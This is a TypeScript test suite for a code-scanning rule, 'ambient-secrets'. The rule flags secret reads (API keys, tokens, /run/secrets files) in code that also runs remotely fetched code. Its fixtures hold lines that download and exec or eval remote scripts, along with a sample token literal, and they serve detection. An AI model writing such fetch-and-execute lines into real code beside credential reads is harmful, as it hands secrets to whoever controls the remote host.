/** Where ambient-secrets draws its lines: which names are secrets, how they are reached, and what runs beside them. */

import assert from 'node:assert/strict';
import type { SourceLanguage } from '../../server/core/syntax/language.ts';
import { find } from '../kit/check.ts';
import { only } from '../kit/service.ts';

const settings = only(['ambient-secrets']);
const PYTHON = 'import requests\nexec(requests.get("https://example.com/p.py").text)\n';
const SCRIPT = "eval(await (await fetch('https://example.com/p.js')).text());\n";

/** The secrets on the path of the one finding. */
function secrets(language: SourceLanguage, code: string): readonly string[] {
  const lines = code.split('\n');
  const found = find(language, code, settings);
  assert(found.length <= 1);
  return found.flatMap(({ severity, path }) => {
    assert.equal(severity, 'warning');
    return path.map(({ range: { start, end } }) => {
      assert.equal(start.line, end.line);
      return lines[start.line]!.slice(start.character, end.character);
    });
  });
}

describe('ambient-secrets', () => {
  it('finds every way to read or set a secret in Python', () => {
    for (const [code, mark] of [
      ['import os\nkey = os.environ["OPENAI_API_KEY"]', 'os.environ["OPENAI_API_KEY"]'],
      ['import os\nkey = os.getenv("HF_TOKEN")', 'os.getenv("HF_TOKEN")'],
      ['import os\nkey = os.environ.get("DB_PASSWORD", "")', 'os.environ.get("DB_PASSWORD", "")'],
      ['from os import environ\nkey = environ["AWS_SECRET_ACCESS_KEY"]', 'environ["AWS_SECRET_ACCESS_KEY"]'],
      ['from os import getenv as get\nkey = get("GITHUB_TOKEN")', 'get("GITHUB_TOKEN")'],
      ['import os, getpass\nos.environ["API_KEY"] = getpass.getpass()', 'os.environ["API_KEY"] = getpass.getpass()'],
    ] as const) {
      assert.deepEqual(secrets('python', `${code}\n${PYTHON}`), [mark], code);
    }
  });

  it('finds every way to read a secret in scripts', () => {
    for (const [code, mark] of [
      ['const key = process.env.OPENAI_API_KEY;', 'process.env.OPENAI_API_KEY'],
      ["const key = process.env['GITHUB_TOKEN'];", "process.env['GITHUB_TOKEN']"],
      ['const { OPENAI_API_KEY } = process.env;', 'OPENAI_API_KEY'],
      ['const { env } = process;\nconst key = env.SESSION_SECRET;', 'env.SESSION_SECRET'],
      ["import { env } from 'node:process';\nconst key = env.SESSION_SECRET;", 'env.SESSION_SECRET'],
    ] as const) {
      assert.deepEqual(secrets('typescript', `${code}\n${SCRIPT}`), [mark], code);
    }
  });

  it('tells of two secrets at most, and of each once', () => {
    const code = ['A_TOKEN', 'A_TOKEN', 'B_TOKEN', 'C_TOKEN'].map((it) => `print(os.environ["${it}"])\n`).join('');
    assert.deepEqual(secrets('python', `import os\n${code}${PYTHON}`), [
      'os.environ["A_TOKEN"]',
      'os.environ["B_TOKEN"]',
    ]);
  });

  it('stands where the foreign code runs', () => {
    const [finding] = find('python', `import os\nkey = os.environ["HF_TOKEN"]\n${PYTHON}`, settings);
    assert.equal(finding!.range.start.line, 3);
    assert.match(finding!.message, /holds `HF_TOKEN`,/);
  });

  it('counts a repository that runs its own code', () => {
    const load = 'AutoModel.from_pretrained("org/model", trust_remote_code=True';
    const code = `import os\nfrom transformers import AutoModel\nkey = os.environ["HF_TOKEN"]\n${load}`;
    assert.deepEqual(secrets('python', `${code})\n`), ['os.environ["HF_TOKEN"]']);
    assert.deepEqual(secrets('python', `${code}, revision="0123456789abcdef0123456789abcdef01234567")\n`), []);
  });

  it('knows the files in which programs are handed secrets', () => {
    for (const file of [
      '/run/secrets/db_password',
      '/etc/secrets/key',
      'github_token.txt',
      'config/.api-key',
      'token',
    ]) {
      const read = `open("${file}").read()`;
      assert.deepEqual(secrets('python', `key = ${read}\n${PYTHON}`), [`open("${file}")`], file);
    }
    for (const file of ['tokens.json', 'tokenizer.model', 'secretary.txt', 'run/secrets.md'])
      assert.deepEqual(secrets('python', `key = open("${file}").read()\n${PYTHON}`), [], file);
  });

  it('tells of a secret in the source where it is in danger', () => {
    const token = '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';
    const found = find('python', `login("${token}")\n${PYTHON}`, settings);
    assert.deepEqual(
      found.map((it) => it.range.start.line),
      [2],
    );
    assert(!JSON.stringify(found).includes(token));
  });

  it('is silent on variables that hold no secret', () => {
    for (const name of [
      'MAX_TOKENS',
      'TOKENIZERS_PARALLELISM',
      'HOME',
      'PAD_TOKEN',
      'USE_AUTH_TOKEN',
      'KEYBOARD',
      'PUBLIC_KEY',
    ])
      assert.deepEqual(secrets('python', `import os\nprint(os.environ["${name}"])\n${PYTHON}`), [], name);
    assert.deepEqual(secrets('javascript', `const a = config.env.API_KEY;\n${SCRIPT}`), []);
    assert.deepEqual(secrets('python', `key = settings["API_KEY"]\n${PYTHON}`), []);
  });

  it('is silent where no foreign code certainly runs', () => {
    for (const code of [
      'print(key)',
      'exec(open("plugin.py").read())',
      'def run(code):\n    exec(code)',
      'import requests\nrequests.get("https://example.com", headers={"Authorization": key})',
    ]) {
      assert.deepEqual(secrets('python', `import os\nkey = os.environ["API_KEY"]\n${code}\n`), [], code);
    }
    assert.deepEqual(secrets('javascript', 'fetch(url, { headers: { token: process.env.API_TOKEN } });\n'), []);
  });

  it('knows the keys of a role', () => {
    const code = `const key = process.env.SUPABASE_SERVICE_ROLE_KEY;\n${SCRIPT}`;
    assert.deepEqual(secrets('javascript', code), ['process.env.SUPABASE_SERVICE_ROLE_KEY']);
  });
});
